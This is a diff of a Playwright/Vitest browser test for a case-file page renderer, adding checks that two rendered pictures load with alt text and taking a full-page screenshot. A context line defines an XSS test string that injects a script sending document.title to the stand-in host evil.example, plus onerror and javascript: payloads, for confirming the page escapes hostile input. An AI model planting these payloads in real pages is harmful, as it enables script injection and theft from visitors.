@@ -8,6 +8,7 @@ import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
 import { caseMarkdown } from "../../cards/case-markdown.ts";
 import { casePage } from "../../cards/case-page.ts";
+import { casePictures } from "../../src/app/pictures.ts";
 import type { CaseFile } from "../../src/domain/case-file.ts";
 import { writerFor } from "../../src/i18n/write.ts";
 import { context } from "../cards/samples.ts";
@@ -16,7 +17,8 @@ import { caseFile } from "./samples.ts";
 
 const pictures = process.env.CERTOPS_PICTURES;
 const digestOf = (style: string): string => createHash("sha256").update(style).digest("base64");
-const pageOf = (content: CaseFile): string => casePage(content, { context, zone: "UTC", locale: "en", digestOf });
+const pageOf = (content: CaseFile): string =>
+  casePage(content, { context, zone: "UTC", locale: "en", digestOf, pictures: casePictures(content, "UTC") });
 
 const attack =
   '</pre></script><script>fetch("https://evil.example/"+document.title)</script><img src=https://evil.example/x onerror=alert(1)><a href="javascript:alert(1)">x</a>\u202e';
@@ -102,9 +104,18 @@ describe.skipIf(chromiumPath === undefined)(`the page in a browser${needsChromiu
     ])
       expect(text).toContain(part);
     expect(await page.locator("main.zh-CN").isVisible()).toBe(false);
+    const drawn = page.locator("main.en .picture img");
+    // The expiry timeline and the recovery curve; the sample has no finding that a trust map is made of.
+    expect(await drawn.count()).toBe(2);
+    for (const one of await drawn.all()) {
+      expect(
+        await one.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth),
+      ).toBeGreaterThan(300);
+      expect((await one.getAttribute("alt")) ?? "").not.toBe("");
+    }
     if (pictures !== undefined) {
       await mkdir(pictures, { recursive: true });
-      await page.screenshot({ path: join(pictures, "case-file.png") });
+      await page.screenshot({ path: join(pictures, "case-file.png"), fullPage: true });
     }
     await page.locator("label[for=zh-CN]").click();
     expect(await page.innerText("main.zh-CN")).toContain("案例文件");
